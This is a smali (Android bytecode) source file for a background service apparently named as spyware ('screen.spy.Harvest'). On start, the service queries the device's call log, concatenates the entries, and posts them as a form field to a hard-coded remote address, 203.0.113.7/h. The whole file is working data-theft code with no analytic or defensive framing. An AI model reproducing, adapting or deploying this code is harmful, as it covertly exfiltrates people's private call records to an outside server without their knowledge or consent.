.class public Lcom/appwarden/screen/spy/Harvest;
.super Landroid/app/Service;

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Service;-><init>()V
    return-void
.end method

.method public onBind(Landroid/content/Intent;)Landroid/os/IBinder;
    .registers 3
    const/4 v0, 0x0
    return-object v0
.end method

# the call log (Harvest.calls) as a form field, posted by Harvest.send
.method public onStartCommand(Landroid/content/Intent;II)I
    .registers 8
    invoke-virtual {p0}, Lcom/appwarden/screen/spy/Harvest;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v0
    invoke-static {v0}, Lcom/appwarden/screen/spy/Harvest;->calls(Landroid/content/ContentResolver;)Ljava/lang/String;
    move-result-object v0
    new-instance v1, Ljava/util/ArrayList;
    invoke-direct {v1}, Ljava/util/ArrayList;-><init>()V
    new-instance v2, Lorg/apache/http/message/BasicNameValuePair;
    const-string v3, "c"
    invoke-direct {v2, v3, v0}, Lorg/apache/http/message/BasicNameValuePair;-><init>(Ljava/lang/String;Ljava/lang/String;)V
    invoke-interface {v1, v2}, Ljava/util/List;->add(Ljava/lang/Object;)Z
    const-string v3, "http://203.0.113.7/h"
    invoke-static {v3, v1}, Lcom/appwarden/screen/spy/Harvest;->send(Ljava/lang/String;Ljava/util/List;)V
    const/4 v0, 0x2
    return v0
.end method

# the loop's exit (toString, return) comes before its body in the file, as compilers lay loops out
.method public static calls(Landroid/content/ContentResolver;)Ljava/lang/String;
    .registers 8
    new-instance v6, Ljava/lang/StringBuilder;
    invoke-direct {v6}, Ljava/lang/StringBuilder;-><init>()V
    sget-object v1, Landroid/provider/CallLog$Calls;->CONTENT_URI:Landroid/net/Uri;
    const/4 v2, 0x0
    const/4 v3, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    move-object v0, p0
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v1
    :head
    invoke-interface {v1}, Landroid/database/Cursor;->moveToNext()Z
    move-result v0
    if-nez v0, :body
    invoke-virtual {v6}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v0
    return-object v0
    :body
    const/4 v0, 0x1
    invoke-interface {v1, v0}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v0
    invoke-virtual {v6, v0}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    goto :head
.end method

# a null list is replaced by an empty one (the data still arrives on the other path); the entity is built through
# a register copy (move-object), as compilers do for high registers
.method public static send(Ljava/lang/String;Ljava/util/List;)V
    .registers 9
    new-instance v5, Lorg/apache/http/client/methods/HttpPost;
    invoke-direct {v5, p0}, Lorg/apache/http/client/methods/HttpPost;-><init>(Ljava/lang/String;)V
    if-nez p1, :ok
    new-instance v4, Ljava/util/ArrayList;
    invoke-direct {v4}, Ljava/util/ArrayList;-><init>()V
    move-object p1, v4
    :ok
    new-instance v6, Lorg/apache/http/client/entity/UrlEncodedFormEntity;
    move-object v1, v6
    move-object v2, p1
    invoke-direct {v1, v2}, Lorg/apache/http/client/entity/UrlEncodedFormEntity;-><init>(Ljava/util/List;)V
    invoke-virtual {v5, v6}, Lorg/apache/http/client/methods/HttpPost;->setEntity(Lorg/apache/http/HttpEntity;)V
    new-instance v0, Lorg/apache/http/impl/client/DefaultHttpClient;
    invoke-direct {v0}, Lorg/apache/http/impl/client/DefaultHttpClient;-><init>()V
    invoke-virtual {v0, v5}, Lorg/apache/http/impl/client/DefaultHttpClient;->execute(Lorg/apache/http/client/methods/HttpUriRequest;)Lorg/apache/http/HttpResponse;
    return-void
.end method
